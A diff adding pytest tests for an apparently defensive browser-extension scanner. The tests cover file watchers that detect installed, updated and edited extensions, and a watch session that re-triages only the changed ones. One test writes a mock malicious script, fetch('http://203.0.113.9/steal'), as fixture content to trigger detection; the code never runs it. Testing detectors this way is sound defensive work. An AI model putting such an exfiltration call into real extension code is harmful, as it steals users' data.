@@ -0,0 +1,118 @@
+import json
+import time
+import threading
+import pytest
+from src.main import build_parser
+from src.watch import InotifyWatcher, PollingWatcher, WatchSession
+
+def _install(extensions_dir, app_id, version, permissions=()):
+    ver_dir = extensions_dir / app_id / version
+    ver_dir.mkdir(parents=True)
+    with open(ver_dir / "manifest.json", "w") as f:
+        json.dump({"name": app_id, "version": version.split("_")[0], "permissions": list(permissions)}, f)
+    return ver_dir
+
+def _wait_for(watcher, timeout=5.0):
+    changed = set()
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline and not changed:
+        changed = watcher.wait(0.2)
+    return changed
+
+@pytest.mark.parametrize("kind", ["inotify", "polling"])
+def test_watchers_report_changed_extension_folders(tmp_path, kind):
+    extensions = tmp_path / "Extensions"
+    _install(extensions, "a" * 32, "1.0_0")
+    if kind == "inotify":
+        try:
+            watcher = InotifyWatcher([str(extensions)])
+        except OSError as e:
+            pytest.skip(f"no inotify here: {e}")
+    else:
+        watcher = PollingWatcher([str(extensions)], interval=0.1)
+
+    try:
+        # An update (new version folder) and a new install
+        _install(extensions, "a" * 32, "1.1_0")
+        _install(extensions, "b" * 32, "2.0_0")
+        changed = set()
+        deadline = time.monotonic() + 5
+        while time.monotonic() < deadline and len(changed) < 2:
+            changed |= _wait_for(watcher, 1)
+        assert changed == {str(extensions / ("a" * 32)), str(extensions / ("b" * 32))}
+    finally:
+        watcher.close()
+
+@pytest.mark.parametrize("kind", ["inotify", "polling"])
+def test_watchers_notice_nested_files_edited_in_place(tmp_path, kind):
+    extensions = tmp_path / "Extensions"
+    ver_dir = _install(extensions, "a" * 32, "1.0_0")
+    (ver_dir / "js" / "lib").mkdir(parents=True)
+    script = ver_dir / "js" / "lib" / "bg.js"
+    script.write_text("console.log(1)")
+    if kind == "inotify":
+        try:
+            watcher = InotifyWatcher([str(extensions)])
+        except OSError as e:
+            pytest.skip(f"no inotify here: {e}")
+    else:
+        watcher = PollingWatcher([str(extensions)], interval=0.1)
+
+    try:
+        script.write_text("fetch('http://203.0.113.9/steal')")
+        assert _wait_for(watcher) == {str(extensions / ("a" * 32))}
+    finally:
+        watcher.close()
+
+def test_watch_session_only_reanalyses_what_changed(tmp_path, monkeypatch):
+    monkeypatch.delenv("GROQ_API_KEY", raising=False)
+    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
+    extensions = tmp_path / "Default" / "Extensions"
+    _install(extensions, "a" * 32, "1.0_0")
+    _install(extensions, "b" * 32, "1.0_0")
+    report_path = tmp_path / "report.json"
+    args = build_parser().parse_args([
+        "watch", "--root", str(tmp_path), "--cache-dir", str(tmp_path / "cache"), "--output", str(report_path),
+        "--polling", "--poll-interval", "0.1", "--debounce", "0.1", "--enrich-budget", "0.001",
+    ])
+
+    session = WatchSession(args)
+    analysed = []
+    original = session.analyzer.triage
+    session.analyzer.triage = lambda ext: (analysed.append(ext.id), original(ext))
+    stop = threading.Event()
+    thread = threading.Thread(target=session.run, args=(stop,), daemon=True)
+    thread.start()
+
+    def report_after(cycle):
+        # cycles goes up when a round starts, the report is only there once it's done
+        deadline = time.monotonic() + 10
+        while time.monotonic() < deadline:
+            try:
+                with open(report_path) as f:
+                    report = json.load(f)
+                if report["watch"]["cycles"] >= cycle:
+                    return report
+            except (OSError, ValueError):
+                pass
+            time.sleep(0.05)
+        raise AssertionError(f"no report for round {cycle}")
+
+    try:
+        assert report_after(1)["total"] == 2
+        assert sorted(analysed) == ["a" * 32, "b" * 32]
+
+        # Update one extension and remove the other
+        _install(extensions, "a" * 32, "1.1_0", permissions=["tabs"])
+        for path in sorted((extensions / ("b" * 32)).rglob("*"), reverse=True):
+            path.unlink() if path.is_file() else path.rmdir()
+        (extensions / ("b" * 32)).rmdir()
+
+        report = report_after(2)
+        assert [(e["id"], e["version"]) for e in report["extensions"]] == [("a" * 32, "1.1")]
+        assert analysed[2:] == ["a" * 32]
+        assert report["watch"]["changed_last_cycle"] == 2
+    finally:
+        stop.set()
+        thread.join(5)
+        session.close()